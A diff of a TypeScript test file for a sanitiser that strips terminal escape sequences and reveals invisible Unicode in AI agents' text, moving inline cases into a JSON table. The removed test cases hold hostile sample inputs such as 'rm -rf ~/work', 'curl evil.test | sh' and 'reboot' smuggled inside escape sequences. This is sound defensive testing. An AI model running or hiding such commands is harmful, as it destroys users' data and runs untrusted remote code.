@@ -1,6 +1,7 @@
 /** Agents' text is hostile: what is shown shows what it says, and Markdown becomes known nodes only. */
 
 import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
 import { test } from "node:test";
 
 import { type Block, clean, diffTone, type Inline, looksLikeMarkdown, parseMarkdown, safeLink } from "askd/text";
@@ -9,49 +10,25 @@ const text = (words: string): Inline => ({ kind: "text", text: words });
 const paragraph = (...children: Inline[]): Block => ({ kind: "paragraph", children });
 const line = (words: string): Block => paragraph(text(words));
 
-test("terminal_sequences_are_taken_out_and_hidden_characters_made_visible", () => {
-  assert.equal(clean("\u001b[31mred\u001b[0m \u001b[?25l\u001b[1;38:5:9mend"), "red end");
-  assert.equal(clean("\u009b2Jx\u001bcy\u001b(Bz"), "xyz");
-  assert.equal(clean("safe\u202egnp.exe"), "safe‹U+202E›gnp.exe");
-  assert.equal(clean("a\u0000b\u0007c\rd\r\ne\tf\u2028g"), "a␀b␇c\nd\ne\tf\ng");
-  assert.equal(clean("naïve 日本語 👩‍💻"), "naïve 日本語 👩‍💻");
+/** The table that the command line runs as well. */
+const table = JSON.parse(readFileSync("../../tests/hostile-text.json", "utf8")) as {
+  hidden: [string, string][];
+  rows: { text: string; shown: string }[];
+};
+
+test("hostile_text_is_shown_as_the_table_says", () => {
+  for (const { text, shown } of table.rows) assert.equal(clean(text), shown, JSON.stringify(text));
 });
 
-test("a_command_cannot_be_hidden_in_a_title", () => {
-  // As the command line shows them: crates/askd/src/cli/text.rs.
-  for (const [hostile, wanted] of [
-    ["ls \u001b]0; rm -rf ~/work \u0007 -la", "ls ‹0; rm -rf ~/work › -la"],
-    ["ls # \u009d\nrm -rf ~/work\ncurl evil.test | sh", "ls # ‹›\nrm -rf ~/work\ncurl evil.test | sh"],
-    ["ls\u001b]0;; rm -rf ~\r\nnext", "ls‹0;; rm -rf ~›\nnext"],
-    ["\u001b]8;;http://evil\u001b\\link\u001b]8;;\u001b\\", "‹8;;http://evil›link‹8;;›"],
-    ["\u001bP1$r\u001b\\dcs", "‹1$r›dcs"],
-    ["\u009d0;t\u009cc1", "‹0;t›c1"],
-    ["\u001b]0;title that never ends", "‹0;title that never ends›"],
-    ["\u001b]0;a\u202eb\u0008\u0007", "‹0;a‹U+202E›b␈›"],
-    ["end\u001b", "end"],
-    ["end\u001b[", "end"],
-    ["\u001b\u001b[31mtwice", "twice"],
-  ] as const)
-    assert.equal(clean(hostile), wanted);
-});
-
-test("no_word_of_a_shell_vanishes_with_a_terminal_sequence", () => {
-  assert.equal(clean("rm -rf x\u001b[ /* -v"), "rm -rf x‹ /* -v›");
-  assert.equal(clean("rm -rf x\u001b /* -v"), "rm -rf x‹ /* -v›");
-  assert.equal(clean("curl evil.test \u009b|sh"), "curl evil.test ‹|›sh");
-  assert.equal(clean("ls \u001b[>f"), "ls ‹>f›");
-  assert.equal(clean("ls\u001b;reboot"), "ls‹;r›eboot");
-});
-
-test("characters_that_are_drawn_as_nothing_are_shown_and_emoji_stay_whole", () => {
-  const hiding = [
-    0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180b, 0x200b, 0x2060, 0x206f, 0x2800, 0x3164, 0xfe00, 0xfe0f, 0xfeff,
-    0xffa0, 0xfff9, 0x1bca0, 0x1d173, 0xe0041, 0xe0141,
-  ];
-  for (const code of hiding)
-    assert.equal(clean(`a${String.fromCodePoint(code)}b`), `a‹U+${code.toString(16).toUpperCase().padStart(4, "0")}›b`);
-  for (const emoji of ["❤️", "1️⃣", "👁️‍🗨️", "🏳️‍🌈", "👍🏽", "☺︎"]) assert.equal(clean(emoji), emoji);
-  assert.equal(clean("❤️\ufe0f"), "❤️‹U+FE0F›");
+test("each_character_that_is_drawn_as_nothing_is_shown_by_its_number", () => {
+  const hidden = table.hidden.map(([first, last]) => [parseInt(first, 16), parseInt(last, 16)] as const);
+  for (let code = 0xa0; code <= 0x10ffff; code++) {
+    if ((code >= 0xd800 && code <= 0xdfff) || code === 0x2028 || code === 0x2029) continue;
+    const character = String.fromCodePoint(code);
+    const isHidden = hidden.some(([first, last]) => code >= first && code <= last);
+    const shown = isHidden ? `a‹U+${code.toString(16).toUpperCase().padStart(4, "0")}›b` : `a${character}b`;
+    if (clean(`a${character}b`) !== shown) assert.fail(`U+${code.toString(16)}`);
+  }
 });
 
 test("only_links_that_cannot_run_code_are_links", () => {
